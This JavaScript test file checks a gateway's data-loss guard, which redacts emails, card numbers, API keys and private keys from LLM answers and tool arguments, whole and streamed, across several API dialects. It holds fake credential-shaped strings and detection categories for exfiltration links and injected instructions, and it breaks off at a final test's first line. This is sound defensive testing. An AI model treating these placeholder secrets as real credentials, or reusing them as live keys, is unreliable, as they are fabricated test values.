// SPDX-License-Identifier: Apache-2.0
// The output guard at the edge: what is taken out of requests and answers, in every dialect, whole and streamed; how an answer ends that may not
// go on; what is held back, and that nothing else is; what records tell, and what happens without the pattern database.
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import path from 'node:path';
import { after, test } from 'node:test';
import { backendRow, eventually, patterns, startGate } from './gate.mjs';

const ACTS = ['off', 'log', 'annotate', 'redact', 'cut', 'block'];
const TYPES = ['email', 'phone', 'card', 'iban', 'national_id', 'provider_key', 'cloud_key', 'private_key', 'jwt', 'connection_string', 'exfil_link', 'hidden_text', 'instructions', 'canary', 'blocked_term'];
/** GH_ENDPOINT_DLP_INPUT and _OUTPUT (policy/dlp_policy.c): what control packs. */
const acts = ({ all = 'log', ...one }) => TYPES.reduce((bits, t, i) => bits | (BigInt(ACTS.indexOf(one[t] ?? all)) << BigInt(8 + 3 * i)), 0n);
const dlp = ({ input = {}, output = {}, required = false, reversible = false, words = false, ...more } = {}) => ({
    dlp_input: Number(acts(input) | 1n | (required ? 2n : 0n) | (reversible ? 4n : 0n) | (words ? 8n : 0n)), dlp_output: Number(acts(output)), ...more });

const EMAIL = 'jane.doe@example.com';
const CARD = '4111 1111 1111 1111';
const KEY = 'sk-proj-Abc123Def456Ghi789Jkl012Mno345Pqr678';
const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn'.repeat(6)}\n-----END RSA PRIVATE KEY-----`;
const key = Buffer.alloc(32, 0x5b);
const hmac = (text) => createHmac('sha256', key).update(text.slice(0, 64)).digest('hex').slice(0, 16);

// A backend that says what the test tells it to: an object, or a list of chunks of bytes between which it waits for `next()`.
let said, seen = [], headers = {};
const waiting = [];
const upstream = http.createServer((req, res) => {
    const parts = [];
    req.on('data', (d) => parts.push(d)).on('end', async () => {
        seen.push(JSON.parse(Buffer.concat(parts).toString() || 'null'));
        res.writeHead(200, { 'content-type': Array.isArray(said) ? 'text/event-stream' : 'application/json', ...headers });
        if (!Array.isArray(said))
            return res.end(JSON.stringify(said));
        for (const piece of said) {
            if (typeof piece === 'function')
                await piece();
            else
                res.write(piece);
        }
        res.end();
    });
});
await new Promise((ok) => upstream.listen(0, '127.0.0.1', ok));
upstream.url = `http://127.0.0.1:${upstream.address().port}`;
const names = ['openai', 'anthropic', 'scoring'];
const what = {
    deployments: Object.fromEntries(names.map((b) => [b, { model: 'm', backend: b }])),
    endpoint: dlp({ output: { all: 'redact' } }),
    credentials: [{ section: 'bound_key', key: ['installation'], values: { value: `hex:${'5a'.repeat(32)}` } }, { section: 'text_key', key: ['demo'], values: { value: `hex:${key.toString('hex')}`, day: 1 } }],
    more: names.map((b) => backendRow('demo', b, upstream, { dialect: b })),
};
const gate = await startGate(what);
after(async () => {
    upstream.closeAllConnections?.();
    await new Promise((ok) => upstream.close(ok));
    await gate.stop();
});

let inForce;
/** The same house with an endpoint that says otherwise. */
async function say(endpoint) {
    const wanted = JSON.stringify(endpoint);
    if (wanted !== inForce) {
        gate.write('base', gate.rows({ ...what, endpoint: { stored: 1, ...endpoint } }));
        gate.publish();
        const generation = gate.current.base;
        said = chat('ok');
        await eventually('the policy is in force', async () => {
            await gate.chat('openai', { body: { messages: [{ role: 'user', content: 'hi' }] } });
            return gate.records().findLast((r) => r.kind === 'open' || r.kind === 'refused')?.generation === generation;
        });
        inForce = wanted;
    }
    seen = [];
}
const chat = (content, more = {}) => ({ id: 'x', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content } }], usage: { prompt_tokens: 1, completion_tokens: 1 }, ...more });
const user = (text) => ({ messages: [{ role: 'user', content: text }] });
function post(where, value) {
    const body = JSON.stringify(value);
    return gate.call({ method: 'POST', path: `/workspaces/demo/endpoints/chat/${where}`, headers: { ...gate.auth(), 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), ...(where.includes('score') ? { 'azureml-model-deployment': 'scoring' } : {}) }, body });
}
const closeOf = (got) => eventually('a close record', () => gate.recordsOf(got).find((r) => r.kind === 'close'));
const nowhere = (...texts) => {
    const all = gate.records().map((r) => JSON.stringify(r)).join('\n') + gate.log();
    for (const text of texts)
        assert.ok(!all.includes(text), `${text} stands in records or logs`);
};

// ---- streams ----
const chunk = (delta, more = {}) => ({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: null, ...more }] });
const sse = (e) => `${e.type ? `event: ${e.type}\n` : ''}data: ${typeof e === 'string' ? e : JSON.stringify(e)}\n\n`;
const chatStream = (pieces) => [...pieces.map((p) => sse(chunk({ content: p }))), sse(chunk({}, { finish_reason: 'stop' })), sse({ choices: [], usage: { prompt_tokens: 1, completion_tokens: 1 } }), sse('[DONE]')];
const events = (text) => text.split('\n\n').filter((e) => /^data:/m.test(e)).map((e) => e.split('\n').filter((l) => l.startsWith('data: ')).map((l) => l.slice(6)).join('\n')).map((d) => (d === '[DONE]' ? d : JSON.parse(d)));
const contentOf = (list, choice = 0) => list.flatMap((e) => e.choices ?? []).filter((c) => c.index === choice).map((c) => c.delta?.content ?? '').join('');
const stream = async (pieces, model = 'openai', more = {}) => {
    said = pieces;
    return gate.chat(model, { stream: true, body: { messages: [{ role: 'user', content: 'x' }], ...more } });
};

test('files of text in answers, whole and in an event: read, and encoded again without what was found', async () => {
    const file = (text, type = 'text/csv;name=people', more = (s) => s) => `data:${type};base64,${more(Buffer.from(text).toString('base64'))}`;
    const decoded = (address) => Buffer.from(address.slice(address.indexOf(',') + 1), 'base64').toString();
    const people = `name,mail\nJané,${EMAIL}\n`;
    const images = (...urls) => urls.map((url) => ({ type: 'image_url', image_url: { url } }));
    const bytes = file(people, 'image/png'), calm = file('nothing to see');
    await say(dlp({ output: { all: 'redact', private_key: 'block' } }));
    for (const address of [file(people), file(people, 'TEXT/plain'), file(people, ''), file(people, 'application/json', (s) => s.replace(/=+$/, '')), file(people, 'text/plain', (s) => s.replace(/(.{8})/g, '$1\n'))]) {
        said = chat('here', { choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: 'here', images: images(bytes, calm, address) } }] });
        const whole = await gate.chat('openai', { body: user('x') });
        const urls = whole.json.choices[0].message.images.map((i) => i.image_url.url);
        assert.deepEqual(urls.slice(0, 2), [bytes, calm], 'of another type, or with nothing in it: as it came');
        assert.equal(decoded(urls[2]), people.replace(EMAIL, '[EMAIL_1]'));
        assert.equal(urls[2].split(',')[0], address.split(',')[0]);
        assert.equal((await closeOf(whole)).dlp_found, 'out email 1 redact');
        const streamed = events((await stream([sse(chunk({ images: images(bytes, calm, address) })), ...chatStream(['ok'])])).text);
        assert.deepEqual(streamed[0].choices[0].delta.images.map((i) => i.image_url.url), urls);
    }
    said = chat('here', { choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: file(`${PEM}\n`) } }] });
    assert.equal((await gate.chat('openai', { body: user('x') })).status, 400);
    said = chat(file('fine', `text/plain;name=${EMAIL}`));
    assert.equal((await gate.chat('openai', { body: user('x') })).json.choices[0].message.content, file('fine', 'text/plain;name=[EMAIL_1]'), 'the address itself is a text');
    nowhere(EMAIL);
});

test('a whole answer: what was found is taken out, and the record tells type, place and keyed hash', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    said = chat(`Write to ${EMAIL}, card ${CARD}, again ${EMAIL}; key ${KEY}.`, { choices: [{ index: 0, finish_reason: 'stop', logprobs: { content: [{ token: EMAIL }] },
        message: { role: 'assistant', content: `Write to ${EMAIL}, card ${CARD}, again ${EMAIL}; key ${KEY}.` } }, { index: 1, finish_reason: 'stop', message: { role: 'assistant', content: 'fine', tool_calls: [] } }] });
    const got = await gate.chat('openai', { body: user('x') });
    assert.equal(got.status, 200, got.text);
    assert.equal(got.json.choices[0].message.content, 'Write to [EMAIL_1], card [CARD_1], again [EMAIL_1]; key [PROVIDER_KEY_1].');
    assert.equal(got.json.choices[0].logprobs, null, 'tokens would tell it again');
    assert.equal(got.json.choices[1].message.content, 'fine');
    assert.equal(got.headers['x-gatehouse-findings'], 'email=2, card=1, provider_key=1');
    const record = await closeOf(got);
    assert.equal(record.controls.dlp.result, 'changed');
    assert.equal(record.controls.blocklist.result, 'not run');
    assert.equal(record.dlp_found, 'out email 2 redact; out card 1 redact; out provider_key 1 redact');
    assert.match(record.dlp_places, /^out email \d+@9; out card \d+@36; /);
    assert.equal(record.dlp_hmacs.slice(0, 16), hmac(EMAIL));
    nowhere(EMAIL, CARD, KEY);
});

test('a workspace without a key of its own has hashes by one made of the installation\'s', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const all = Buffer.alloc(32, 0x5c), own = createHmac('sha256', all).update('demo').digest();
    const credentials = [what.credentials[0], { section: 'text_key', key: ['/'], values: { value: `hex:${all.toString('hex')}`, day: 1 } }];
    gate.write('credentials', credentials);
    gate.publish();
    said = chat(`to ${EMAIL}`);
    await eventually('a hash by the other key', async () => {
        const got = await gate.chat('openai', { body: user('x') });
        return (await closeOf(got)).dlp_hmacs?.slice(0, 16) === createHmac('sha256', own).update(EMAIL).digest('hex').slice(0, 16);
    });
    gate.write('credentials', what.credentials);
    gate.publish();
});

test('errors of a backend and arguments of tools are looked at too', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    said = chat(null, { choices: [{ index: 0, finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: [{ id: 'c', type: 'function', function: { name: 'f', arguments: JSON.stringify({ to: EMAIL }) } }] } }] });
    const got = await gate.chat('openai', { body: { ...user('x'), tools: [{ type: 'function', function: { name: 'f', parameters: {} } }] } });
    assert.equal(got.status, 200, got.text);
    assert.deepEqual(JSON.parse(got.json.choices[0].message.tool_calls[0].function.arguments), { to: '[EMAIL_1]' });
});

test('every dialect, whole', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    said = { id: 'r', object: 'response', status: 'completed', instructions: null, output: [{ type: 'message', id: 'm', role: 'assistant', content: [{ type: 'output_text', text: `to ${EMAIL}`, annotations: [] }] }], usage: { input_tokens: 1, output_tokens: 1 } };
    let got = await post('openai/v1/responses', { model: 'openai', input: 'x', store: false });
    assert.equal(got.status, 200, got.text);
    assert.equal(got.json.output[0].content[0].text, 'to [EMAIL_1]');
    said = { id: 'm', type: 'message', role: 'assistant', model: 'm', stop_reason: 'end_turn', content: [{ type: 'text', text: `to ${EMAIL}` }, { type: 'text', text: KEY }], usage: { input_tokens: 1, output_tokens: 1 } };
    got = await post('anthropic/v1/messages', { model: 'anthropic', max_tokens: 9, messages: [{ role: 'user', content: 'x' }] });
    assert.equal(got.status, 200, got.text);
    assert.deepEqual(got.json.content.map((c) => c.text), ['to [EMAIL_1]', '[PROVIDER_KEY_1]']);
    said = { predictions: [`to ${EMAIL}`, 1, { deep: [CARD] }] };
    got = await post('score', { data: ['x'] });
    assert.equal(got.status, 200, got.text);
    assert.deepEqual(got.json, { predictions: ['to [EMAIL_1]', 1, { deep: ['[CARD_1]'] }] });
});

test('a stream: at every split what was found is taken out, and what was not stays', async () => {
    await say(dlp({ output: { all: 'redact' }, words: true }));
    const text = `Mail ${EMAIL} or pay ${CARD} now`;
    for (let cut = 1; cut < text.length; cut++) {
        const got = await stream(chatStream([text.slice(0, cut), text.slice(cut)]));
        assert.equal(contentOf(events(got.text)), 'Mail [EMAIL_1] or pay [CARD_1] now', `cut at ${cut}`);
        assert.equal(events(got.text).at(-1), '[DONE]');
    }
    const got = await stream(chatStream([...text]));
    assert.equal(contentOf(events(got.text)), 'Mail [EMAIL_1] or pay [CARD_1] now');
    const record = await closeOf(got);
    assert.deepEqual([record.end, record.controls.dlp.result, record.dlp_found], ['complete', 'changed', 'out email 1 redact; out card 1 redact']);
});

test('a backend that says an empty reason in each event does not end the text by it', async () => {
    await say(dlp({ output: { all: 'redact' }, words: true }));
    const pieces = `Mail ${EMAIL} or pay ${CARD} now`.match(/.{1,5}/g);
    const got = await stream([...pieces.map((p) => sse(chunk({ content: p }, { finish_reason: '' }))), ...chatStream([])]);
    assert.equal(contentOf(events(got.text)), 'Mail [EMAIL_1] or pay [CARD_1] now');
    assert.equal(events(got.text).at(-1), '[DONE]');
});

test('without wholeWords only the first letters of an address may have left', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const text = `Mail ${EMAIL} now`;
    for (let cut = 1; cut < text.length; cut++) {
        const got = await stream(chatStream([text.slice(0, cut), text.slice(cut)]));
        assert.match(contentOf(events(got.text)), /^Mail (j|ja|jan|jane|jane\.)?\[EMAIL_1\] now$/, `cut at ${cut}`);
    }
});

test('what has no end is taken out from its header on, and what follows it stays', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const text = `Key:\n${PEM}\nDone.`;
    for (const size of [1, 7, 64]) {
        const pieces = text.match(new RegExp(`[^]{1,${size}}`, 'g'));
        const got = await stream(chatStream(pieces));
        assert.match(contentOf(events(got.text)), /^Key:\n-{0,5}\[PRIVATE_KEY_1\]\nDone\.$/, `pieces of ${size}`);
    }
});

test('what is held at the end of a text leaves before the event that ends it', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const got = await stream(chatStream(['The answer is', ' 4111 1111']));
    const list = events(got.text);
    assert.equal(contentOf(list), 'The answer is 4111 1111');
    assert.equal(list.findIndex((e) => e.choices?.[0]?.finish_reason === 'stop'), list.length - 2);
});

test('what stands around the data of an event says nothing: ids, comments, unknown fields, names; however lines end', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const data = JSON.stringify(chunk({ content: 'ok' }));
    for (const event of [`id: ${KEY}\ndata: ${data}\n\n`, `: ${KEY}\ndata: ${data}\n\n`, `note: ${KEY}\r\ndata: ${data}\r\n\r\n`, `event: ${KEY}\ndata: ${data}\n\n`, `event: ${KEY}\revent: message\rdata: ${data}\r\r`,
        `: ${KEY}\n\ndata: ${data}\n\n`, `data: ${data.replace(',', ',\ndata: ')}\nretry: 12\n${KEY}\n\n`]) {
        const got = await stream([event, ...chatStream([])]);
        assert.equal(contentOf(events(got.text)), 'ok', got.text);
        assert.ok(!got.text.includes(KEY), event);
    }
    const got = await stream([sse({ ...chunk({ content: 'ok' }), id: `for ${EMAIL}`, model: EMAIL, system_fingerprint: `card ${CARD}` }), ...chatStream([])]);
    assert.ok(!got.text.includes(EMAIL) && !got.text.includes(CARD), got.text);
});

test('headers of a backend are numbers, spans and dates, or do not go on', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    said = chat('ok');
    const told = ['12', '6m0s', '1.5s', '1700000000000', '2026-01-02T03:04:05.678Z', 'Wed, 21 Oct 2026 07:28:00 GMT', 'true', '100;w=60', 'limit=100, reset=5'];
    for (const [value, passes] of [...told.map((v) => [v, true]), ...[KEY, EMAIL, CARD, 'AKIAIOSFODNN7EXAMPLE', '=?', 'a'.repeat(14), '1 '.repeat(30), '4111:1111:1111:1111', '4111 1111 1111 1111 1:1'].map((v) => [v, false])]) {
        headers = { 'x-ratelimit-reset-tokens': value, 'openai-processing-ms': value, 'x-secret': value };
        const got = await gate.chat('openai', { body: user('x') });
        headers = {};
        assert.equal(got.status, 200);
        assert.deepEqual([got.headers['x-ratelimit-reset-tokens'], got.headers['openai-processing-ms'], got.headers['x-secret']], passes ? [value, value, undefined] : [undefined, undefined, undefined], value);
    }
});

test('a provider that puts a secret where nobody looks: errors, unknown members, every choice, reasoning, refusals', async () => {
    await say(dlp({ output: { all: 'redact' }, max_choices: 8, words: true }));
    const halves = [KEY.slice(0, 9), KEY.slice(9, 20), KEY.slice(20)];
    for (const delta of [(t) => ({ refusal: t }), (t) => ({ reasoning_content: t }), (t) => ({ reasoning: t }), (t) => ({ content: [{ type: 'text', text: t }] }), (t) => ({ audio: { transcript: t } }), (t) => ({ tool_calls: [{ index: 0, custom: { input: t } }] })]) {
        const two = (index, t) => sse({ ...chunk({}), choices: [{ index, delta: delta(t), finish_reason: null }] });
        const got = await stream([...halves.flatMap((t) => [two(0, t), two(1, t)]), sse({ ...chunk({}), choices: [0, 1].map((index) => ({ index, delta: {}, finish_reason: 'stop' })) }), sse('[DONE]')], 'openai', { n: 2, tools });
        assert.ok(!halves.slice(1).some((t) => got.text.includes(t)), got.text);
        assert.match(got.text, /PROVIDER_KEY_1/);
    }
    for (const more of [{ note: KEY }, { usage: { who: KEY } }, { choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: 'x', annotations: [{ url_citation: { title: KEY, url: `https://x/${KEY}` } }], function_call: { name: KEY, arguments: '{}' } } }] }]) {
        said = chat('ok', more);
        const got = await gate.chat('openai', { body: user('x') });
        assert.ok(!got.text.includes(KEY), got.text);
    }
});

test('several choices and the pieces of a tool\'s arguments are texts of their own', async () => {
    await say(dlp({ output: { all: 'redact' }, max_choices: 8 }));
    const two = (index, delta) => sse({ ...chunk({}), choices: [{ index, delta, finish_reason: null }] });
    const args = (index, text) => two(0, { tool_calls: [{ index, function: { arguments: text } }] });
    const got = await stream([two(0, { content: 'x.y@exam' }), two(1, { content: '4111 1111' }), two(0, { content: 'ple.com!' }), two(1, { content: ' 1111 1111.' }),
        two(0, { tool_calls: [{ index: 0, id: 'c', type: 'function', function: { name: 'f', arguments: '' } }] }), args(0, '{"to":"jane.d'), args(0, 'oe@example'), args(0, '.com"}'),
        sse({ ...chunk({}), choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }, { index: 1, delta: {}, finish_reason: 'stop' }] }), sse('[DONE]')], 'openai', { n: 2, tools: [{ type: 'function', function: { name: 'f', parameters: {} } }] });
    const list = events(got.text);
    assert.equal(contentOf(list, 0), '[EMAIL_1]!');
    assert.equal(contentOf(list, 1), '[CARD_1].');
    assert.equal(list.flatMap((e) => e.choices ?? []).flatMap((c) => c.delta?.tool_calls ?? []).map((c) => c.function.arguments).join(''), '{"to":"[EMAIL_2]"}');
});

// ---- JSON inside of JSON ----
const escaped = (text) => [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const tools = [{ type: 'function', function: { name: 'f', parameters: {} } }];
const called = (args) => chat(null, { choices: [{ index: 0, finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: [{ id: 'c', type: 'function', function: { name: 'f', arguments: args } }] } }] });
const argsOf = (list) => list.flatMap((e) => e.choices ?? []).flatMap((c) => c.delta?.tool_calls ?? []).map((c) => c.function.arguments).join('');
/** The first dashes of a private key may have left: five of them begin too much else. */
const readArgs = (got) => JSON.parse(argsOf(events(got.text)).replace(/-{1,5}\[PRIVATE/, '[PRIVATE'));
const ARGUMENTS = [
    ['an escaped sign', `{"to":"${EMAIL.replace('@', '\\u0040')}"}`, { to: '[EMAIL_1]' }],
    ['an escaped key of a provider', `{"a":"${escaped(KEY)}","b":"x"}`, { a: '[PROVIDER_KEY_1]', b: 'x' }],
    ['a key of a provider behind half of a pair', `{"a":"\\ud83d${KEY}"}`, { a: '\ufffd[PROVIDER_KEY_1]' }],
    ['the name of a member', `{"${escaped(EMAIL)}":{"${CARD}":1}}`, { '[EMAIL_1]': { '[CARD_1]': 1 } }],
    ['a number', '{"card":4111111111111111,"n":12}', { card: 0, n: 12 }],
    ['a private key in escapes, and what stands behind it', JSON.stringify({ pem: PEM, quote: 'say "yes"', slash: '\\' }).replaceAll('-', '\\u002d'), { pem: '[PRIVATE_KEY_1]', quote: 'say "yes"', slash: '\\' }],
    ['a private key that never ends', `{"pem":"${PEM.slice(0, 150).replaceAll('\n', '\\n')}","b":[1,"x"]}`, null],
];

test('arguments of tools are read as they mean, whole: names, escapes, numbers; what is left is JSON', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    for (const [name, args, want] of ARGUMENTS) {
        said = called(args);
        const got = await gate.chat('openai', { body: { ...user('x'), tools } });
        assert.equal(got.status, 200, got.text);
        const left = JSON.parse(got.json.choices[0].message.tool_calls[0].function.arguments);
        assert.deepEqual(want === null ? left.pem : left, want ?? '[PRIVATE_KEY_1]', name);
    }
    said = called(`{"a":"caf\\u00e9","b":"x\\/y"}`);
    const got = await gate.chat('openai', { body: { ...user('x'), tools } });
    assert.equal(got.json.choices[0].message.tool_calls[0].function.arguments, '{"a":"caf\\u00e9","b":"x\\/y"}', 'what is not changed is spelled as it was');
});

test('arguments of tools are read as they mean, streamed, at every split', async () => {
    await say(dlp({ output: { all: 'redact' }, words: true }));
    const delta = (index, text, more = {}) => sse({ ...chunk({}), choices: [{ index: 0, delta: { tool_calls: [{ index, function: { arguments: text }, ...more }] }, finish_reason: null }] });
    const end = [sse(chunk({}, { finish_reason: 'tool_calls' })), sse('[DONE]')];
    for (const [name, args, want] of ARGUMENTS.filter(([, , w]) => w !== null)) {
        const step = Math.max(1, Math.floor(args.length / 24));
        for (let cut = 0; cut <= args.length; cut += step) {
            const got = await stream([delta(0, args.slice(0, cut), { id: 'c', type: 'function', function: { name: 'f', arguments: args.slice(0, cut) } }), delta(0, args.slice(cut)), ...end], 'openai', { tools });
            assert.deepEqual(readArgs(got), want, `${name}, cut at ${cut}`);
        }
        const bytes = [...args].map((c) => delta(0, c));
        assert.deepEqual(readArgs(await stream([...bytes, ...end], 'openai', { tools })), want, `${name}, byte by byte`);
    }
});

test('arguments of a request are read as they mean, and put back into its answer', async () => {
    const history = (args) => ({ messages: [{ role: 'user', content: 'x' }, { role: 'assistant', content: null, tool_calls: [{ id: 'c', type: 'function', function: { name: 'f', arguments: args } }] }, { role: 'tool', tool_call_id: 'c', content: 'done' }], tools });
    await say(dlp({ input: { all: 'redact' }, reversible: true }));
    for (const [name, args, want] of ARGUMENTS) {
        seen = [];
        said = called(JSON.stringify({ a: '[EMAIL_1]', b: '[PRIVATE_KEY_1]' }));
        const got = await gate.chat('openai', { body: history(args) });
        assert.equal(got.status, 200, `${name}: ${got.text}`);
        const left = JSON.parse(seen[0].messages[1].tool_calls[0].function.arguments);
        assert.deepEqual(want === null ? left.pem : left, want ?? '[PRIVATE_KEY_1]', name);
        const back = JSON.parse(got.json.choices[0].message.tool_calls[0].function.arguments);
        if (want?.pem)
            assert.equal(back.b, PEM, 'what a placeholder stands for is spelled as JSON');
        if (want?.to)
            assert.equal(back.a, EMAIL);
    }
});

test('names of members of an answer, and long numbers that a model says', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const answer = { id: 'm', type: 'message', role: 'assistant', model: 'm', stop_reason: 'tool_use', stop_sequence: null, usage: { input_tokens: 1, output_tokens: 1 }, [EMAIL]: [`x ${CARD}`],
        content: [{ type: 'tool_use', id: 't', name: 'f', input: { [KEY]: { card: 4111111111111111, n: 7 } } }] };
    said = answer;
    let got = await post('anthropic/v1/messages', { model: 'anthropic', max_tokens: 9, messages: [{ role: 'user', content: 'x' }], tools: [{ name: 'f', input_schema: {} }] });
    assert.equal(got.status, 200, got.text);
    assert.deepEqual(got.json.content[0].input, { '[PROVIDER_KEY_1]': { card: 0, n: 7 } });
    assert.deepEqual(got.json['[EMAIL_1]'], ['x [CARD_1]']);
    await say(dlp({ output: { all: 'log', provider_key: 'cut' } }));
    said = answer;
    got = await post('anthropic/v1/messages', { model: 'anthropic', max_tokens: 9, messages: [{ role: 'user', content: 'x' }], tools: [{ name: 'f', input_schema: {} }] });
    assert.equal(got.status, 200, got.text);
    assert.ok(!got.text.includes(KEY) && !got.text.includes('4111111111111111'));
});

test('responses: pieces, and the events that tell the whole text again', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const text = `to ${EMAIL}`, item = { type: 'message', id: 'm', role: 'assistant', content: [{ type: 'output_text', text, annotations: [] }] };
    const at = { item_id: 'm', output_index: 0, content_index: 0 };
    const response = { id: 'resp_1', object: 'response', status: 'in_progress', output: [], usage: null };
    said = [{ type: 'response.created', sequence_number: 0, response }, { type: 'response.output_item.added', sequence_number: 1, output_index: 0, item: { ...item, content: [] } },
        ...[text.slice(0, 12), text.slice(12, 15), text.slice(15)].map((delta, i) => ({ type: 'response.output_text.delta', sequence_number: 2 + i, ...at, delta })),
        { type: 'response.output_text.done', sequence_number: 5, ...at, text }, { type: 'response.output_item.done', sequence_number: 6, output_index: 0, item },
        { type: 'response.completed', sequence_number: 7, response: { ...response, status: 'completed', output: [item], usage: { input_tokens: 1, output_tokens: 1 } } }].map(sse);
    const got = await post('openai/v1/responses', { model: 'openai', input: 'x', store: false, stream: true });
    const list = events(got.text);
    assert.equal(list.filter((e) => e.type === 'response.output_text.delta').map((e) => e.delta).join(''), 'to [EMAIL_1]');
    assert.equal(list.find((e) => e.type === 'response.output_text.done').text, 'to [EMAIL_1]');
    assert.equal(list.at(-1).response.output[0].content[0].text, 'to [EMAIL_1]');
    assert.ok(!got.text.includes('example.com'));
    assert.deepEqual(list.map((e) => e.sequence_number), [...list.keys()]);
});

test('responses: what was held back goes before the end in an event of its own number', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const at = { item_id: 'm', output_index: 0, content_index: 0 };
    const response = { id: 'resp_1', object: 'response', status: 'in_progress', output: [], usage: null };
    const deltas = (first, ...pieces) => pieces.map((delta, i) => ({ type: 'response.output_text.delta', sequence_number: first + i, ...at, content_index: first, delta, logprobs: [] }));
    said = [{ type: 'response.created', sequence_number: 0, response }, ...deltas(1, 'The number is ', '4111 1111'), { type: 'response.output_text.done', sequence_number: 3, ...at, content_index: 1, text: 'The number is 4111 1111' },
        ...deltas(4, 'and also 4111', ' 1111'), { type: 'response.output_text.done', sequence_number: 6, ...at, content_index: 4, text: 'and also 4111 1111' },
        { type: 'response.completed', sequence_number: 7, response: { ...response, status: 'completed', usage: { input_tokens: 1, output_tokens: 1 } } }].map(sse);
    const got = await post('openai/v1/responses', { model: 'openai', input: 'x', store: false, stream: true });
    const list = events(got.text);
    assert.equal(list.filter((e) => e.type === 'response.output_text.delta').map((e) => e.delta).join('|').replaceAll('||', '|'), 'The number is |4111 1111|and also |4111 1111');
    assert.equal(list.length, said.length + 2); // two texts ended with something held back
    assert.deepEqual(list.map((e) => e.sequence_number), [...list.keys()]);
});

test('a long answer of many blocks: each that has ended makes room for another', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const blocks = Array.from({ length: 400 }, (_, index) => [{ type: 'content_block_start', index, content_block: { type: 'text', text: '' } },
        { type: 'content_block_delta', index, delta: { type: 'text_delta', text: `to jane.${index}@exam` } }, { type: 'content_block_delta', index, delta: { type: 'text_delta', text: 'ple.com now' } },
        { type: 'content_block_stop', index }]).flat();
    said = [{ type: 'message_start', message: { id: 'm', type: 'message', role: 'assistant', model: 'm', content: [], usage: { input_tokens: 1, output_tokens: 1 } } }, ...blocks,
        { type: 'message_delta', delta: { stop_reason: 'end_turn', stop_sequence: null }, usage: { output_tokens: 3 } }, { type: 'message_stop' }].map(sse);
    const got = await post('anthropic/v1/messages', { model: 'anthropic', max_tokens: 9, stream: true, messages: [{ role: 'user', content: 'x' }] });
    assert.ok(!got.text.includes('example.com') && !got.text.includes('jane.'), got.text.slice(0, 2000));
    assert.equal(events(got.text).filter((e) => e.type === 'content_block_stop').length, 400);
    assert.match(got.text, /\[EMAIL_400\]/);
    assert.equal(gate.recordsOf(got).at(-1).end, 'complete');
});

test('more texts at once than are looked at: the answer ends with an error, and nothing slips by', async () => {
    await say(dlp({ output: { all: 'redact' }, max_choices: 8 }));
    const tools = (n) => Array.from({ length: n }, (_, index) => sse({ ...chunk({}), choices: [{ index: 0, delta: { tool_calls: [{ index, id: `c${index}`, type: 'function', function: { name: 'f', arguments: `{"a":"${EMAIL}` } }] }, finish_reason: null }] }));
    const got = await stream([...tools(300), sse({ ...chunk({}), choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] }), sse('[DONE]')], 'openai', { tools: [{ type: 'function', function: { name: 'f', parameters: {} } }] });
    assert.ok(!got.text.includes(EMAIL));
    assert.ok(!got.text.includes('[DONE]') || /"error"/.test(got.text), got.text.slice(-500));
    const close = gate.recordsOf(got).at(-1);
    assert.deepEqual([close.end, close.reason], ['cut', 'more texts at once than are looked at']);
});

const messages = (pieces) => [{ type: 'message_start', message: { id: 'm', type: 'message', role: 'assistant', model: 'm', content: [], usage: { input_tokens: 1, output_tokens: 1 } } },
    { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } }, ...pieces.map((text) => ({ type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text } })),
    { type: 'content_block_stop', index: 0 }, { type: 'message_delta', delta: { stop_reason: 'end_turn', stop_sequence: null }, usage: { output_tokens: 3 } }, { type: 'message_stop' }].map(sse);
const postMessages = (pieces) => {
    said = messages(pieces);
    return post('anthropic/v1/messages', { model: 'anthropic', max_tokens: 9, stream: true, messages: [{ role: 'user', content: 'x' }] });
};

test('messages: pieces of a block', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const got = await postMessages(['to jane.d', 'oe@exa', 'mple.com and 4111']);
    const list = events(got.text);
    assert.equal(list.filter((e) => e.type === 'content_block_delta').map((e) => e.delta.text).join(''), 'to [EMAIL_1] and 4111');
    assert.equal(list.findIndex((e) => e.type === 'content_block_stop'), list.length - 3);
});

test('what is held is said again with nothing beside it', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const beside = chunk({ content: 'pay 4111 1111', aside: EMAIL }, { logprobs: { content: [{ token: ' 4111 1111' }] } });
    const got = await stream([sse(beside), sse(chunk({}, { finish_reason: 'stop' })), sse('[DONE]')]);
    const list = events(got.text);
    assert.equal(contentOf(list), 'pay 4111 1111');
    assert.deepEqual(list.flatMap((e) => e.choices ?? []).map((c) => [c.delta.content, c.delta.aside, c.logprobs]), [['pay ', '[EMAIL_1]', null], ['4111 1111', '', null], [undefined, undefined, undefined]]);
    assert.ok(!got.text.includes(EMAIL));
});

test('pieces of a text that no dialect names are joined too', async () => {
